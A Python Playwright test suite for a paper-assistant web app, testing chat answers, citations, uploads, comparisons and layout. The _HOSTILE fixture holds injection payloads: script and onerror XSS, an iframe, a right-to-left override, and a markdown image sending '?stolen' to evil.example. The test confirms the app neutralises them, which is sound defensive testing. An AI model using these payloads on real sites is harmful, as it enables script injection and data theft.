"""The web app as a reader meets it: a real server, a real library, a real browser."""

import json
import os
import re
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from browser import (
    CHROMIUM,
    PATIENCE,
    ask,
    chip,
    chromium,
    load_sample,
    question_box,
    send,
    serving,
    upload,
)
from playwright.sync_api import Browser, Page, Request, expect
from reportlab.pdfgen.canvas import Canvas

from fake_openai import FakeOpenAI
from pdfs import draw, lines

expect.set_options(timeout=PATIENCE / 3)

_QUESTION = "What does DAPO reach on AIME 2024?"
_HOSTILE = """Title: <script>document.title='owned'</script> <img src=x onerror=\
"document.title='owned'"> {long}
PDF: https://arxiv.org/pdf/2503.11111
Summary: Zebrafish sleep ![x](https://evil.example/?stolen) every day \u202eesrever https://evil.example/y. \
<iframe src="https://evil.example"></iframe> Zebrafish sleep $\\rule{{99em}}{{99em}}$ soundly.
"""

if CHROMIUM is None:
    if os.environ.get("CI") == "true":
        pytest.fail("the browser tests need the Debian package chromium", pytrace=False)
    pytest.skip("there is no chromium: apt-get install chromium", allow_module_level=True)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def sample_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home that holds the sample digest once there is the :func:`app`."""
    return tmp_path_factory.mktemp("app") / "home"


@pytest.fixture(scope="module")
def app(sample_home: Path, browser: Browser) -> Iterator[str]:
    """An app whose library holds the sample digest."""
    with serving(sample_home) as address:
        page = browser.new_page()
        page.set_default_timeout(PATIENCE)
        load_sample(page, address)
        page.close()
        yield address


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A fresh session; what it asked for from elsewhere fails the test."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    outside: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            outside.append(request.url)

    page.on("request", note)
    yield page
    context.close()
    assert outside == []


@pytest.fixture
def paper(tmp_path: Path) -> Path:
    """A PDF of two pages; its second says something about zebrafish."""

    def paint(canvas: Canvas) -> None:
        lines(
            canvas, 60, 760, ["Sleep of the Zebrafish in Still Water"], font="Times-Bold", size=18
        )
        lines(
            canvas,
            60,
            720,
            ["We study how fish rest, and report what we have seen in many tanks."] * 3,
        )
        canvas.showPage()
        lines(canvas, 60, 760, ["2 Results"], font="Times-Bold", size=14)
        lines(
            canvas, 60, 730,
            ["Zebrafish larvae slept for eleven hours a night in still water.",
             "In running water they slept for four hours only, and woke up often."],
        )  # fmt: skip

    return draw(tmp_path / "zebrafish.pdf", paint)


def test_an_answer_streams_and_its_chip_opens_the_source(page: Page, app: str) -> None:
    page.goto(app)
    ask(page, _QUESTION)
    chip(page, 1).click()
    panel = page.get_by_role("dialog")
    expect(panel).to_contain_text("Citation 1 · abstract")
    expect(panel).to_contain_text("50 points on AIME 2024")
    expect(panel.get_by_role("link", name="Paper's page")).to_have_attribute(
        "href", re.compile(r"^https://arxiv\.org/")
    )


def test_a_reload_keeps_the_conversation(page: Page, app: str) -> None:
    page.goto(app)
    ask(page, _QUESTION)
    expect(page).to_have_url(re.compile(r"\?conversation=[0-9a-f]{16}$"))
    page.reload()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(2)
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("50 points")


def test_feedback_on_a_fresh_answer_takes_a_comment_and_leaves_the_words(
    page: Page, app: str, sample_home: Path
) -> None:
    page.goto(app)
    ask(page, _QUESTION)
    answer = page.get_by_test_id("stChatMessage").nth(1)
    words = answer.inner_text()

    page.get_by_test_id("stFeedback").get_by_role("radio").first.click()
    comment = page.get_by_label("Comment on this answer")
    comment.fill("not what I meant")
    comment.press("Enter")

    expect(page.get_by_text("kept with the conversation")).to_be_visible()
    assert answer.inner_text().startswith(words)
    path = sample_home / "conversations" / f"{page.url.partition('=')[2]}.json"
    (exchange,) = json.loads(path.read_text())["exchanges"]
    assert exchange["feedback"] == {"vote": "up", "comment": "not what I meant"}


def serving_with_model(home: Path, url: str) -> AbstractContextManager[str]:
    """Run another app on a home, with a language model."""
    return serving(
        home, ASSISTANT_LLM="openai:fake", ASSISTANT_LLM_BASE_URL=url, OPENAI_API_KEY="none"
    )


@pytest.mark.usefixtures("app")
def test_stop_ends_an_answer_at_once_and_keeps_its_words(page: Page, sample_home: Path) -> None:
    with (
        FakeOpenAI("very_long", pause=0.1) as model,
        serving_with_model(sample_home, model.url) as address,
    ):
        page.goto(address)
        send(page, _QUESTION)
        words = page.get_by_test_id("stChatMessage").nth(1)
        expect(words).to_contain_text("DAPO", timeout=20_000)
        stopped = page.get_by_text("Stopped. What had come by then is kept.")
        expect(stopped).to_be_hidden()
        page.get_by_role("button", name="Stop").click()
        expect(question_box(page)).to_be_enabled()
        expect(stopped).to_be_visible()
        page.reload()
        expect(words).to_contain_text("DAPO")
        expect(stopped).to_be_visible()


@pytest.mark.usefixtures("app")
def test_a_conversation_that_is_deleted_while_an_answer_comes_stays_deleted(
    page: Page, sample_home: Path
) -> None:
    with (
        FakeOpenAI("answers", pause=0.1) as model,
        serving_with_model(sample_home, model.url) as address,
    ):
        page.goto(address)
        send(page, _QUESTION)
        answer = page.get_by_test_id("stChatMessage").nth(1)
        expect(answer).to_contain_text("DAPO", timeout=20_000)
        path = sample_home / "conversations" / f"{page.url.partition('=')[2]}.json"
        path.unlink()
        expect(answer).to_contain_text("not kept: that conversation is not here")
        page.get_by_test_id("stFeedback").get_by_role("radio").first.click()
        expect(page.get_by_test_id("stToast")).to_contain_text("may have been deleted")
        assert not path.exists()


@pytest.mark.usefixtures("app")
def test_nothing_of_the_first_page_stands_beside_an_answer_that_comes(
    page: Page, sample_home: Path
) -> None:
    with (
        FakeOpenAI("very_long", pause=0.1) as model,
        serving_with_model(sample_home, model.url) as address,
    ):
        page.goto(address)
        suggestion = page.get_by_role("button", name="Which papers train models")
        welcome = page.get_by_text("Every sentence of an answer is cited")
        expect(suggestion).to_be_visible()
        expect(welcome).to_be_visible()
        send(page, _QUESTION)
        answer = page.get_by_test_id("stChatMessage").nth(1)
        expect(answer).to_contain_text("DAPO", timeout=20_000)
        assert page.get_by_role("button", name="Stop").is_visible()
        assert suggestion.count() == welcome.count() == 0
        assert page.get_by_role("button", name="All papers").count() == 1


@pytest.mark.usefixtures("app")
def test_an_answer_stays_where_it_was_drawn_while_it_came(page: Page, sample_home: Path) -> None:
    with (
        FakeOpenAI("answers", pause=0.1) as model,
        serving_with_model(sample_home, model.url) as address,
    ):
        page.goto(address)
        send(page, _QUESTION)
        messages = page.get_by_test_id("stChatMessage")
        expect(messages.nth(1)).to_contain_text("DAPO", timeout=20_000)
        expect(page.get_by_text("What was searched")).to_be_hidden()
        messages.evaluate_all("drawn => drawn.forEach(each => each.setAttribute('drawn', ''))")
        expect(page.get_by_text("What was searched")).to_be_visible(timeout=20_000)
        assert page.locator("[drawn]").count() == 2


@pytest.mark.usefixtures("app")
def test_stop_ends_an_answer_of_which_no_word_has_come(page: Page, sample_home: Path) -> None:
    with (
        FakeOpenAI("timeout") as model,
        serving_with_model(sample_home, model.url) as address,
    ):
        page.goto(address)
        send(page, _QUESTION)
        words = page.get_by_test_id("stChatMessage").nth(1)
        expect(words).to_contain_text("Reading", timeout=20_000)
        while not model.requests:
            page.wait_for_timeout(50)
        page.get_by_role("button", name="Stop").click()
        assert model.hung_up.wait(10)
        expect(question_box(page)).to_be_enabled()


@pytest.mark.usefixtures("app")
def test_a_model_that_does_not_answer_is_said_in_words(page: Page, sample_home: Path) -> None:
    with serving_with_model(sample_home, "http://127.0.0.1:9/v1") as address:
        page.goto(address)
        send(page, _QUESTION)
        expect(page.get_by_test_id("stChatMessage").nth(1).get_by_role("alert")).to_be_visible(
            timeout=60_000
        )


def test_a_pdf_is_uploaded_asked_about_and_its_page_shown_with_the_quote(
    page: Page, tmp_path: Path, paper: Path
) -> None:
    with serving(tmp_path / "home") as address:
        upload(page, address, paper)
        expect(page.get_by_text("1 added")).to_be_visible()
        assert not list((tmp_path / "home" / "uploads").iterdir())
        page.goto(address)
        ask(page, "How long do zebrafish larvae sleep in still water?")
        page.get_by_test_id("stButtonGroup").last.get_by_role("radio").filter(
            has_text="p. 2"
        ).first.click()
        picture = page.get_by_role("dialog").get_by_role(
            "img", name="Page 2 of 2, with the quote marked"
        )
        expect(picture).to_be_visible()
        page.get_by_role("dialog").get_by_role("button", name="Previous page").click()
        expect(page.get_by_role("dialog").get_by_role("img", name="Page 1 of 2")).to_be_visible()


def test_a_file_that_is_no_paper_is_refused_in_words(page: Page, app: str, tmp_path: Path) -> None:
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7 and nothing more")
    upload(page, app, broken)
    expect(page.get_by_text("1 failed")).to_be_visible()
    expect(page.get_by_text("is damaged or not a PDF")).to_be_visible()
    page.get_by_role("button", name="Dismiss").first.click()
    expect(page.get_by_text("1 failed")).to_have_count(0)


def test_a_hostile_paper_changes_nothing(page: Page, tmp_path: Path) -> None:
    digest = tmp_path / "digest.txt"
    digest.write_text(_HOSTILE.format(long="long " * 60))
    with serving(tmp_path / "home") as address:
        upload(page, address, digest)
        page.goto(address)
        ask(page, "When do zebrafish sleep?")
        chip(page, 1).click()
        expect(page.get_by_role("dialog")).to_contain_text("<script>document.title")
        page.goto(f"{address}/library?paper=2503.11111")
        expect(page.get_by_role("heading", name="<script>")).to_be_visible()
        expect(page).to_have_title("paper-assistant")
        assert page.locator("iframe, script:not([src]):has-text('owned'), img[src=x]").count() == 0
        assert page.get_by_role("link", name="evil").count() == 0
        assert "\u202e" not in page.content()
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_papers_are_compared_a_cell_is_edited_and_the_table_downloaded(
    page: Page, app: str
) -> None:
    page.goto(f"{app}/compare")
    page.get_by_role("textbox", name="Or those").fill("What are DAPO and EvalTree?")
    page.get_by_role("button", name="Compare").last.click()
    page.get_by_role("heading", name="Summary").wait_for()
    expect(page).to_have_url(re.compile(r"\?comparison=What-are-DAPO"))
    page.get_by_test_id("stDataFrame").first.click(position={"x": 400, "y": 80})
    page.get_by_role("button", name="Edit").click()
    page.get_by_label("Your words").fill("In my words")
    page.get_by_role("button", name="Keep", exact=True).click()
    expect(page.get_by_text("Edited by a reader")).to_be_visible()
    page.reload()
    page.get_by_role("button", name="Export").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Markdown").click()
    assert "In my words (edited)" in Path(download.value.path()).read_text()


def test_what_to_ask_next_is_asked_by_a_click(page: Page, app: str) -> None:
    page.goto(app)
    ask(page, "Which papers generate video?")
    offered = page.get_by_role("button", name=re.compile(r"\?$")).last
    question = offered.inner_text().splitlines()[-1]
    offered.click()
    expect(page.get_by_text("What was searched")).to_have_count(2)
    expect(page.get_by_test_id("stChatMessage").nth(2)).to_contain_text(question)


def test_two_sessions_at_once_do_not_disturb_each_other(browser: Browser, app: str) -> None:
    first, second = browser.new_page(), browser.new_page()
    for each in (first, second):
        each.set_default_timeout(PATIENCE)
    first.goto(app)
    second.goto(app)
    for page, question in ((first, _QUESTION), (second, "What is EvalTree?")):
        send(page, question)
    for page, word in ((first, "DAPO"), (second, "EvalTree")):
        expect(page.get_by_text("What was searched")).to_be_visible(timeout=20_000)
        expect(page.get_by_test_id("stChatMessage")).to_have_count(2)
        expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text(word)
    assert first.url != second.url
    first.close()
    second.close()


def test_a_conversation_is_downloaded_and_deleted(page: Page, app: str) -> None:
    page.goto(app)
    ask(page, "What is PyGDA?")
    page.get_by_role("button", name="Conversation", exact=True).click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Export as JSON").click()
    kept = json.loads(Path(download.value.path()).read_text())
    assert kept["exchanges"][0]["question"] == "What is PyGDA?"
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Delete it").click()
    expect(page.get_by_role("heading", name="Ask your papers")).to_be_visible()
    expect(page).not_to_have_url(re.compile("conversation="))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_narrow_screen_needs_no_sideways_scrolling(
    browser: Browser, app: str, scheme: str
) -> None:
    page = browser.new_page(viewport={"width": 400, "height": 850}, color_scheme=scheme)  # type: ignore[arg-type]
    page.set_default_timeout(PATIENCE)
    wide = []
    for place in ("", "library", "library?paper=2503.14476", "compare", "evaluate", "settings"):
        page.goto(f"{app}/{place}")
        expect(page.get_by_role("heading").first).to_be_visible()
        page.wait_for_timeout(500)
        if not page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"):
            wide.append(place)
    page.close()
    assert wide == []


def test_another_name_for_this_machine_gets_nothing(browser: Browser, app: str) -> None:
    context = browser.new_context(extra_http_headers={})
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    refused: list[int] = []
    page.on("console", lambda message: refused.append(1) if "403" in message.text else None)
    page.goto(app.replace("127.0.0.1", "rebound.localhost"))
    page.wait_for_timeout(3000)
    assert refused
    context.close()
